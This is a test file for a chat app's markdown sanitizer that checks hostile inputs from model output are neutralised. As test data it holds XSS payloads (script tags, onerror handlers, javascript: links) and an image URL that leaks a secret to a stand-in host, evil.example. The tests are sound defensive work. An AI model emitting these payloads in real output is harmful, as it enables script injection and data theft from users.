// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { addCopyButtons, renderMarkdown } from "./markdown";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("renderMarkdown", () => {
  it("renders markdown: emphasis, code, tables", () => {
    const d = dom(renderMarkdown("**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```"));
    expect(d.querySelector("strong")?.textContent).toBe("bold");
    expect(d.querySelector("code")?.textContent).toBe("code");
    expect(d.querySelectorAll("td")).toHaveLength(2);
    expect(d.querySelector("pre code")?.textContent).toContain("x = 1");
  });

  it("drops script elements a model emits", () => {
    const d = dom(renderMarkdown('hi <script>window.pwned = 1</script> there'));
    expect(d.querySelector("script")).toBeNull();
    expect(d.innerHTML).not.toContain("pwned");
  });

  it("drops event-handler attributes", () => {
    const d = dom(renderMarkdown('<img src="x" onerror="window.pwned=1"> <b onclick="x()">b</b>'));
    for (const e of Array.from(d.querySelectorAll("*"))) {
      for (const a of Array.from(e.attributes)) expect(a.name.startsWith("on")).toBe(false);
    }
  });

  it("neutralises javascript: links in markdown and in HTML", () => {
    const d = dom(renderMarkdown('[click](javascript:alert(1)) <a href="javascript:alert(2)">x</a> <a href="JaVaScRiPt:alert(3)">y</a>'));
    for (const a of Array.from(d.querySelectorAll("a"))) {
      expect((a.getAttribute("href") ?? "").toLowerCase()).not.toContain("javascript:");
    }
  });

  it("opens safe links in a new tab without an opener", () => {
    const d = dom(renderMarkdown("[docs](https://example.org)"));
    const a = d.querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.org");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toContain("noopener");
  });

  it("loads no images from model output (no data can leave through an image URL)", () => {
    const d = dom(renderMarkdown('![x](https://evil.example/leak?d=secret) <img src="https://evil.example/t.png">'));
    expect(d.querySelector("img")).toBeNull();
  });

  it("removes iframes, forms and inline styles", () => {
    const d = dom(renderMarkdown('<iframe src="https://e.org"></iframe><form><input></form><p style="position:fixed">p</p>'));
    expect(d.querySelector("iframe, form, input")).toBeNull();
    expect(d.querySelector("[style]")).toBeNull();
  });

  it("highlights named languages and escapes the rest", () => {
    const d = dom(renderMarkdown("```python\nimport numpy as np\n```\n\n```\n<b>x</b>\n```"));
    expect(d.querySelector("code.language-python .hljs-keyword")?.textContent).toBe("import");
    expect(d.querySelectorAll("pre")[1].querySelector("b")).toBeNull();
    expect(d.querySelectorAll("pre")[1].textContent).toContain("<b>x</b>");
  });

  it("typesets LaTeX as MathML, inline and display, and leaves prices alone", () => {
    const d = dom(renderMarkdown("Area $A = \\pi r^2$ and\n\n$$\\frac{a}{b}$$\n\nIt costs $5 and $10."));
    expect(d.querySelectorAll("math")).toHaveLength(2);
    expect(d.querySelector(".visionchat-math math")?.getAttribute("display")).toBe("block");
    expect(d.textContent).toContain("$5 and $10");
  });

  it("adds a copy button to code blocks, after sanitizing", () => {
    const d = dom(renderMarkdown("```\nx = 1\n```"));
    addCopyButtons(d);
    addCopyButtons(d); // idempotent
    expect(d.querySelectorAll("pre .visionchat-copy")).toHaveLength(1);
  });
});
